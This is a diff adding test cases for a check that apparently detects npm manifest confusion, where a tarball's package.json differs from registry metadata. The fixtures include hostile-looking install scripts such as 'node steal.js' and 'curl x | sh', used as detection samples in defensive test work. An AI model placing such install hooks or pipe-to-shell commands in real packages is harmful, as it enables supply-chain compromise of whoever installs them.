@@ -1,0 +1,61 @@
+import check from '../../src/checks/manifest-confusion.js';
+import { evidence, manifestOf, registryFacts, tarballFacts } from '../support/evidence-builder.js';
+import { checkTable } from './check-table.js';
+
+const registry = registryFacts();
+const same = manifestOf(registry);
+const withManifest = (manifest: Partial<typeof same>, registryOverrides = {}) =>
+  evidence({ registry: registryOverrides, tarball: tarballFacts({ manifest: { ...manifestOf(registryFacts(registryOverrides)), ...manifest } }) });
+
+checkTable(check, [
+  { name: 'the same package.json as the packument', evidence: evidence(), score: 100, messageId: 'same', data: { differences: [] } },
+  {
+    name: 'a postinstall only in the tarball',
+    evidence: withManifest({ installScripts: { postinstall: 'node steal.js' } }),
+    score: 0,
+    messageId: 'different',
+    data: { count: 1, differences: ['install script "postinstall" only in the tarball ("node steal.js")'] },
+    message: ['postinstall'],
+  },
+  {
+    name: 'another install command in the tarball',
+    evidence: withManifest({ installScripts: { install: 'curl x | sh' } }, { installScripts: { install: 'node-gyp rebuild' } }),
+    score: 0,
+    messageId: 'different',
+    data: { differences: ['install script "install": registry "node-gyp rebuild", tarball "curl x | sh"'] },
+  },
+  {
+    name: 'name, version, dependency and bin differ',
+    evidence: withManifest({ name: 'evil', version: '9.9.9', dependencies: { 'dep-a': '^1.0.0' }, hasBin: true }),
+    score: 0,
+    messageId: 'different',
+    data: { count: 4 },
+  },
+  {
+    name: 'hasInstallScript with no script in either manifest',
+    evidence: withManifest({}, { hasInstallScript: true }),
+    score: 0,
+    messageId: 'different',
+    data: { differences: ['the registry says the version has an install script; neither manifest shows one'] },
+  },
+  {
+    name: 'hasInstallScript explained by a binding.gyp',
+    evidence: evidence({ registry: { hasInstallScript: true }, tarball: tarballFacts({ manifest: manifestOf(registryFacts()), bindingGyp: true }) }),
+    score: 100,
+    messageId: 'same',
+  },
+  {
+    name: 'hasInstallScript: false while the tarball has a script',
+    evidence: withManifest({ installScripts: { preinstall: 'node x.js' } }, { hasInstallScript: false }),
+    score: 0,
+    messageId: 'different',
+    data: { count: 2 },
+  },
+  {
+    name: 'no package.json in the tarball',
+    evidence: evidence({ tarball: tarballFacts({ manifest: null, manifestProblem: 'the archive has no package.json' }) }),
+    score: null,
+    messageId: 'unreadable',
+    data: { problem: 'the archive has no package.json' },
+  },
+]);
